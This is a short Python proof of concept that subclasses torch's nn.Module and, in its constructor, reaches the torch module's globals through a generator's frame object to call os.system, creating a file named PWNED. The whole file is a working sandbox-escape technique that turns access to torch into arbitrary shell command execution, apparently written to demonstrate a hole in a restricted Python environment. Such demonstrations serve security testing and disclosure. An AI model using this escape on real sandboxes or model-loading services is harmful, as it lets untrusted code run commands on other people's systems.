# A generator's frame leads to the globals of torch.nn.modules.module, and so to os.
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.torch = self.modules().gi_frame.f_globals["torch"]
        self.torch.os.system("touch PWNED")


Net()
